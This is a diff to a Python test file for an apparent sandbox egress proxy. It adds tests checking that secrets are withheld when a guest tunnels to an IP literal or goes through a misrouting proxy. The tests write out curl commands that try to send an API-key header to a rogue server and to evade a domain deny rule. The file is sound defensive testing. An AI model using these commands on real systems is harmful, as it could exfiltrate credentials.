@@ -110,9 +110,11 @@ def run_tls(
     policy: dict[str, Any] | None = None,
     pins: dict[str, str] | None = None,
     dns: bool = False,
+    proxy_names: dict[str, str] | None = None,
 ) -> Setup:
     """``dns``: a dnsmasq in the host namespace knows every server's name, and is
-    the engine's only upstream resolver; otherwise the guest gets no DNS."""
+    the engine's only upstream resolver; otherwise the guest gets no DNS.
+    ``proxy_names``: where the CONNECT proxy sends each name, if it lies."""
     test_ca, rogue_ca = UpstreamCa(tmp), UpstreamCa(tmp)
     servers = {
         name: TlsEchoServer(
@@ -121,7 +123,7 @@ def run_tls(
         for name in (API, OTHER, PINNED, ROGUE)
     }
     addresses = {API: API_IP, OTHER: OTHER_IP, PINNED: PINNED_IP, ROGUE: ROGUE_IP}
-    proxy = ConnectProxy(addresses)
+    proxy = ConnectProxy(proxy_names or addresses)
     plain = PlainHttpEcho()
     data: dict[str, Any] = {
         "tls": {
@@ -491,6 +493,69 @@ def test_connect_tunnel_is_intercepted_and_checked_on_its_target(
         f"{API}:443".encode(),
         f"{API}:443".encode(),
     ]
+
+
+def test_a_tunnel_to_an_ip_meets_the_policy_with_its_sni_and_earns_no_secret_unverified(
+    guest_link_factory: GuestLinkFactory, tmp_path: Path
+) -> None:
+    """A CONNECT to an IP literal names no host to hold the hello to (§4.4): any SNI
+    may come. The DNS-pin identity is skipped in tunnels, so with upstream
+    verification off such a tunnel earned the SNI's secrets at the guest's chosen
+    address; and the SNI met no policy, so a domain deny rule was dodged."""
+
+    async def body(s: Setup) -> None:
+        proxy = ["-x", f"http://{PROXY_IP}:3128", "--cacert", s.ca_file]
+        for name in (API, OTHER):
+            r = await s.guest(
+                [
+                    *("curl", "-sS", "--max-time", "10", *proxy),
+                    *("--connect-to", f"{name}:443:{ROGUE_IP}:443"),
+                    *("-H", "X-Key: $MSB_API_KEY", f"https://{name}/ip-tunnel"),
+                ]
+            )
+            assert r.returncode != 0
+
+    policy = {
+        "default_egress": "allow",
+        "rules": [{"direction": "egress", "destination": {"domain": OTHER}, "action": "deny"}],
+    }
+    s = run_tls(
+        guest_link_factory(), tmp_path, body, policy=policy, tls={"verify_upstream": False}
+    )
+    assert [r.split(b" ")[1] for r in s.proxy.requests] == [f"{ROGUE_IP}:443".encode()] * 2
+    assert s.servers[ROGUE].received == []
+    assert s.reasons() == ["secret-violation", "sni-policy"]
+
+
+def test_a_tunnel_without_upstream_verification_gets_no_identity_bound_secret(
+    guest_link_factory: GuestLinkFactory, tmp_path: Path
+) -> None:
+    """In a tunnel the DNS-pin identity is skipped: the proxy resolved the name. But
+    the guest picks the proxy, and one that sends the name elsewhere is caught only
+    by the upstream certificate check; without it (verify off for the name) nothing
+    binds the server to the name, and a secret that requires that is withheld."""
+
+    async def body(s: Setup) -> None:
+        proxy = ["-x", f"http://{PROXY_IP}:3128", "--cacert", s.ca_file]
+        r = await s.guest(
+            [
+                *("curl", "-sS", "--max-time", "10", *proxy),
+                *("-H", "X-Key: $MSB_API_KEY", f"https://{API}/lying-proxy"),
+            ]
+        )
+        assert r.returncode != 0
+
+    policy = {"default_egress": "allow", "rules": []}
+    s = run_tls(
+        guest_link_factory(),
+        tmp_path,
+        body,
+        policy=policy,
+        tls={"scoped_verify_upstream": [{"pattern": API, "verify": False}]},
+        proxy_names={API: ROGUE_IP},
+    )
+    assert s.servers[ROGUE].received == []
+    assert s.reasons() == ["secret-violation"]
 
 
 def test_placeholder_over_plain_http_is_a_violation(
